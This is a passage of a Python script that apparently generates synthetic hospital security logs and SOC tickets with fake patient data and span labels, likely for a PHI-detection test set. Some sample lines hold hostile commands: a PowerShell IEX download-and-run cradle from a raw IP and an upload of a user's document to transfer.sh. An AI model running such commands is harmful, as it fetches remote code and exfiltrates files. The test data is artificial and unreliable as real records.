            L.t("<Data Name='CommandLine'>")
            L.put(["\"" + img + "\" \"", user_folder(s), *pfile(p), "\""], xesc)
            L.t("</Data>")
        else:
            img = R.choice(["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Program Files\\Epic\\Hyperspace\\Hyperspace.exe"])
            d("Image", img)
            d("CommandLine", img + R.choice([" /c ipconfig /all", " -ExecutionPolicy Bypass -File C:\\ProgramData\\SCCM\\inv.ps1", " -env PRD"]))
        d("CurrentDirectory", "C:\\Users\\%s\\" % s[0])
        d("User", "SBRMC\\" + s[0])
        d("Hashes", "SHA256=%s,IMPHASH=%s" % (sha256().upper(), hexs(32).upper()))
    elif eid == 11:
        d("Image", R.choice(["C:\\Program Files\\WindowsApps\\Microsoft.ScreenSketch_11.2405.32.0_x64__8wekyb3d8bbwe\\SnippingTool\\SnippingTool.exe",
                             "C:\\Windows\\explorer.exe", "C:\\Program Files\\NAPS2\\NAPS2.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"]))
        L.t("<Data Name='TargetFilename'>")
        if phi:
            L.put([user_folder(s), *pfile(p)], xesc)
        else:
            L.t(xesc("".join(safe_path(s))))
        L.t("</Data>")
        d("CreationUtcTime", t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000))
        d("User", "SBRMC\\" + s[0])
    elif eid == 3:
        d("Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe")
        d("User", "SBRMC\\" + s[0])
        d("Protocol", "tcp")
        d("SourceIp", int_ip())
        d("SourcePort", str(R.randint(49152, 65535)))
        d("DestinationIp", pub_ip())
        d("DestinationPort", R.choice(["443", "80", "8443"]))
    else:
        d("QueryName", R.choice(["ts01-b.cloudsink.net", "sbrmc.epic.com", "login.microsoftonline.com", "x9k2.duckdns.org"]))
        d("QueryStatus", "0")
        d("QueryResults", "type:  5 %s;::ffff:%s;" % ("edge.sbrmc.net", pub_ip()))
        d("Image", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe")
    L.t("</EventData></Event>")
    return L


def g_ps4104(phi):
    L = Line("powershell_4104_syslog")
    t = tick()
    s = rs()
    nl = "#015#012"
    L.t("<13>%s %s Microsoft-Windows-PowerShell[%d]: 4104: Creating Scriptblock text (1 of 1):%s" % (syslog_ts(t), hostn(s), R.randint(1000, 30000), nl))
    if phi:
        p = pat()
        k = R.randint(0, 3)
        if k == 0:
            L.put(["$p = Import-Csv '\\\\sbr-fs02\\Revenue\\Denials\\denials_0603.csv'", nl, "$p | Where-Object { $_.MRN -eq '", (p.mrn, "mrn"),
                   "' -or $_.Guarantor -like '*", (p.last, "name"), "*' } | Export-Csv C:\\Temp\\out.csv -NoTypeInformation"])
        elif k == 1:
            L.put(["Send-MailMessage -From 'scheduling@sbrmc.org' -To '", (p.email, "email"), "' -Subject 'Appointment reminder ",
                   (fdate(svc_date(), 0), "date"), "' -Body 'Dear ", (fname(p, "fl"), "name"), ", please call 608-555-0199 to confirm.' -SmtpServer relay.sbrmc.local"])
        elif k == 2:
            L.put(["Invoke-WebRequest -Uri https://transfer.sh/", hexs(6), "/x.pdf -Method Put -InFile 'C:\\Users\\", s[0], "\\Documents\\", *pfile(p), "'"])
        else:
            L.put(["Get-ADUser -Filter \"EmployeeID -eq '", digits(6), "'\"", nl, "# lookup for IRB extract", nl,
                   "Invoke-Sqlcmd -ServerInstance sbr-sql02 -Query \"SELECT * FROM PAT_ENC WHERE PAT_ENC_CSN_ID = ", (p.csn, "other_id"),
                   " OR SSN = '", (p.ssn, "ssn"), "'\""])
    else:
        L.t(R.choice([
            "Get-Service -Name Sense, WinDefend | Select-Object Name, Status",
            "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')",
            "Update-MpSignature -UpdateSource MicrosoftUpdateServer" + nl + "Get-MpComputerStatus | Select AMProductVersion, AntivirusSignatureVersion",
            "Get-ChildItem -Path C:\\ProgramData\\Veeam\\Backup -Filter *.log | Sort-Object LastWriteTime -Descending | Select -First 5",
            "$ErrorActionPreference = 'Stop'" + nl + "Import-Module ActiveDirectory" + nl + "Get-ADComputer -Filter 'Name -like \"SBR-WS-*\"' | Measure-Object",
            "prompt",
        ]))
    L.t("%s%sScriptBlock ID: %s%sPath: %s" % (nl, nl, guid(), nl, R.choice(["", "C:\\ProgramData\\SCCM\\inv.ps1", "C:\\Users\\%s\\Desktop\\run.ps1" % s[0]])))
    return L


def g_ticket(phi):
    L = Line("servicenow_secops_worknote")
    t = tick()
    an = R.choice(ANALYSTS)
    L.t("%s SIR%07d [Work notes] %s (SOC Tier %d): " % (t.strftime("%Y-%m-%d %H:%M:%S"), R.randint(12000, 13999), an, R.randint(1, 3)))
    if phi:
        p = pat()
        s = rs()
        k = R.randint(0, 9)
        if k == 9:
            L.put(["Pt ", (fname(p, "lf"), "name"), " reported smishing text re: MyChart; portal audit shows logins from ", (pub_ip(), "ip"),
                   " (home, Charter) and ", (pub_ip(), "ip"), " (unknown). Reset by Patient Access, advised pt at ", (p.phone, "phone"), "."])
        elif k == 0:
            L.put(["Confirmed via Purview activity explorer: ", s[0], " copied 14 docs to USB incl. face sheet for ", (fname(p, "fl"), "name"),
                   " (MRN ", (p.mrn, "mrn"), ", DOB ", (fdate(p.dob, 1), "date"), "). Privacy Office notified."])
        elif k == 1:
            rel = pat()
            L.put(["Caller ", (fname(rel, "fl"), "name"), " (pt's daughter) phoned at ", (rel.phone, "phone"), " re: breach letter for ",
                   (fname(p, "il"), "name"), "; verified identity with pt DOB ", (fdate(p.dob, 6), "date"), ". Warm transfer to Privacy."])
        elif k == 2:
            L.put(["Screenshot on desktop shows Epic Storyboard for pt ", (fname(p, "lf"), "name"), ", ", (str(max(p.age, 90)), "age"),
                   "yo, rm 4W-12. User says it was for handoff. Deleted, coached."])
        elif k == 3:
            L.put(["MyChart acct ", (p.username, "other_id"), " (pt ", (fname(p, "fl"), "name"), ") logged in from ", (pub_ip(), "ip"),
                   " - Nigeria geo, not matching home ISP. Acct locked, pt called back at ", (p.phone, "phone"), "."])
        elif k == 4:
            L.put(["Lost laptop SBR-LT-CM-012 had export incl. ", (fname(p, "LF"), "name"), ", ", (p.street, "address"), ", ", (p.city, "address"),
                   ", WI ", (p.zip, "zip"), ", SSN ", (p.ssn, "ssn"), ". BitLocker confirmed ON; low risk of compromise."])
        elif k == 5:
            L.put(["ED trauma note forwarded to personal gmail mentions MVC, pt ", (fname(p, "fl"), "name"), "'s vehicle plate ",
                   ("%d%s%d" % (R.randint(1, 9), "".join(R.choice("ABCDEFGHJKLMNPRSTUVWXYZ") for _ in range(3)), R.randint(100, 999)), "vehicle"),
                   ", VIN ", (mk_vin(), "vehicle"), ". Escalated to Privacy (case PRV-2024-%04d)." % R.randint(100, 999)])
        elif k == 6:
            L.put(["Device clinic export on CASB block: ICD serial ", (R.choice(["PJN", "RNB", "BLR"]) + digits(6) + "H", "device"), " for pt ",
                   (fname(p, "flm"), "name"), ", interrogation ", (fdate(svc_date(), 2), "date"), ". Remote monitoring phone IMEI ",
                   (luhn_complete("35", 15), "device"), " also in file."])
        elif k == 7:
            L.put(["Billing clerk emailed statement to wrong guarantor. Intended: ", (fname(p, "fl"), "name"), " HAR ", (p.har, "account"),
                   ", member ID ", (p.plan, "health_plan"), ". Recipient ", (pat().email, "email"), " asked to delete; attestation pending."])
        else:
            L.put(["Scanned ID uploaded to Dropbox: WI DL ", (p.dl, "license"), " for ", (fname(p, "lower"), "name"), ", CSN ", (p.csn, "other_id"),
                   ". Blocked by Netskope; user ", s[0], " counseled."])
    else:
        L.t(R.choice([
            "Reimaged SBR-WS-ED0142 after Falcon quarantine; hash %s... matched known PUA. Closing as resolved." % hexs(12),
            "FP: Defender flagged Epic Hyperspace update (Hyperspace_Update_Nov23.msi). Added indicator allow, tuning request TSK%07d." % R.randint(10000, 99999),
            "Opened Zscaler support case %08d re: NSS feed lag; SIEM ingest delayed ~14 min." % R.randint(10**6, 10**7),
            "Veeam job FS01-HIM-Daily failed 2 nights; storage team (ext. 4471) expanding repo. No security impact.",
            "Phish campaign 'Q2 Remittance' - 38 recipients, 2 clicks, creds reset for both, MFA re-registered.",
            "Inbox rule '..' forwarding to external gmail found on %s mailbox; removed, session revoked, password reset." % rs()[0],
            "Commvault MediaAgent sbr-ma02 unreachable after patch Tuesday; rebooted, jobs resumed 02:40.",
            "Called vendor (Medline) at 800-633-5463 to confirm invoice 88213 is legitimate. It is not. Blocked sender domain.",
            "USB exception approved by CISO for Lena Fischer (research, IRB 2024-0113) through 2024-07-01.",
        ]))
    return L


def g_health(phi):
    L = Line("agent_health_syslog")
    t = tick()
    h = R.choice(["sbr-sensor-lnx04", "sbr-epic-odb01", "sbr-print02", "SBR-WS-ED0117", "sbr-dlp01"])
    L.t(R.choice([
        "%s %s falcon-sensor[%d]: CrowdStrike(4): SSLSocket Disconnected from Cloud. Reconnecting to ts01-b.cloudsink.net:443" % (syslog_ts(t), h, R.randint(900, 5000)),
        "%s %s falcon-sensor[%d]: CrowdStrike(4): Sensor version 7.11.18110.0 heartbeat OK, aid=%s" % (syslog_ts(t), h, R.randint(900, 5000), hexs(32)),
        "%s %s MsSense[%d]: Health status: Healthy, onboarding state=Onboarded, last cloud connection %s" % (syslog_ts(t), h, R.randint(900, 5000), iso(t - dt.timedelta(seconds=40), 0)),
        "%s INF ZSATunnel: Tunnel 2.0 established to 165.225.%d.%d:443, latency=%dms, ZCC 4.3.0.181" % (t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], R.randint(0, 255), R.randint(1, 254), R.randint(8, 90)),
        "%s %s fpdlp-agent[%d]: policy bundle v%d.%d synced from sbr-dlp01:9443 (sha1 %s)" % (syslog_ts(t), h, R.randint(900, 5000), R.randint(300, 330), R.randint(0, 9), hexs(40)),
        "%s %s netskope-client: steering config refreshed, tunnel gw-chi2.goskope.com:443 UP, rtt %dms" % (syslog_ts(t), h, R.randint(8, 60)),
    ]))
    return L


FAMS = [  # (gen, weight, can_phi)
    (g_m365d, 30, True), (g_mde_csv, 30, True), (g_falcon, 26, True), (g_4663, 20, True), (g_purview, 28, True),
    (g_forcepoint, 30, True), (g_zscaler, 34, True), (g_netskope, 28, True), (g_spo, 30, True), (g_trace, 30, True),
    (g_exo_audit, 24, True), (g_eml, 14, True), (g_veeam, 30, True), (g_commvault, 24, True), (g_sysmon, 26, True),
    (g_ps4104, 22, True), (g_ticket, 34, True), (g_health, 20, False),
]


def pick(phi):
    cand = [f for f in FAMS if f[2] or not phi]
    tot = sum(f[1] for f in cand)
    x = R.uniform(0, tot)
    for f in cand:
        x -= f[1]
        if x <= 0:
            return f[0]
    return cand[-1][0]


def main():
    flags = [True] * N_PHI + [False] * (N_LINES - N_PHI)
    R.shuffle(flags)
    lines, labels = [], []
    for i, phi in enumerate(flags, 1):
        L = pick(phi)(phi)
        txt = L.text()
        assert "\n" not in txt and "\r" not in txt and txt.strip(), (i, txt)
        b = txt.encode("utf-8")
        for sp, v in zip(L.spans, L.vals):
            assert b[sp["s"]:sp["e"]].decode("utf-8") == v, (i, sp, v)
            assert v.strip() == v and v, (i, v)
        assert bool(L.spans) == phi, (i, L.family, txt)
        lines.append(txt)
        labels.append({"line": i, "family": L.family, "spans": L.spans})
    with open(os.path.join(HERE, ID + ".log"), "w", encoding="utf-8", newline="") as f:
        f.write("\n".join(lines))
    with open(os.path.join(HERE, ID + ".labels.jsonl"), "w", encoding="utf-8", newline="") as f:
        f.write("\n".join(json.dumps(x, ensure_ascii=False) for x in labels) + "\n")


if __name__ == "__main__":
    main()
